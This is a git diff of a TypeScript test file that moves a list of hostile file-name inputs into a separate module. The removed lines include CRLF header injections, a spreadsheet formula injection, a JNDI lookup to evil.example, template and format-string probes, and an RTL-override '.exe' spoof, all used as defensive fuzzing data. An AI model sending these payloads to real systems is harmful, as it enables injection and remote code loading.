@@ -1,43 +1,9 @@
-import { readFileSync } from 'node:fs';
 import { describe, expect } from 'vitest';
 import { foldName } from '../../src/library/prompt.ts';
 import { file, multipart, text } from '../support/multipart.ts';
 import { type Ask, TONE, test } from './audit.ts';
+import { INJECTIONS, NAMES } from './naughty-names.ts';
 import type { WireAnswer } from './wire.ts';
-
-const corpus = (name: string) => readFileSync(new URL(`../corpus/${name}`, import.meta.url), 'utf8');
-const lines = (name: string) => corpus(name).split('\n');
-
-/** Injections as they stand in the list, and as a server that decodes them would see them. */
-const INJECTIONS = lines('crlf-injection.txt').flatMap((line) => {
-  try {
-    return [line, decodeURIComponent(line), `menu${decodeURIComponent(line)}Set-Cookie: a=b`];
-  } catch {
-    return [line];
-  }
-});
-
-const NAMES: readonly string[] = [
-  ...new Set([
-    ...(JSON.parse(corpus('blns.json')) as readonly string[]),
-    ...lines('invalid-filenames-linux.txt'),
-    ...lines('invalid-filenames-microsoft.txt'),
-    ...INJECTIONS,
-    'menu\r\nSet-Cookie: a=b\r\n\r\n<html>',
-    'menu\r\n--test-boundary\r\n',
-    '=cmd|calc!A1',
-    '%n%n%n',
-    '\u0024{jndi:ldap://evil.example/a}',
-    '{{7*7}}',
-    '\u202egnp.exe',
-    'a\u0000b',
-    '\ufeffmenu',
-    'İıſK\u212a',
-    'x\u0301'.repeat(127),
-    'ﬀ'.repeat(255),
-    '👨‍👩‍👧‍👦'.repeat(36),
-  ]),
-];
 
 const inForm = (value: string) => value.normalize('NFC').trim();
 const isSayable = (value: string) =>
